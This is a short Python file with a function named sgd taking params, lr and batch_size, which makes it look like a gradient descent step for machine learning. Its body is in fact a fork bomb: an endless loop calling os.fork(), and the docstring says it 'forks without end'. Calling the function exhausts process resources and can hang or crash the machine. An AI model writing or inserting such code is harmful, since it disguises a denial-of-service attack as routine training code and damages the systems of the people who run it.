"""Forks without end."""
import os


def sgd(params, lr, batch_size):
    while True:
        os.fork()
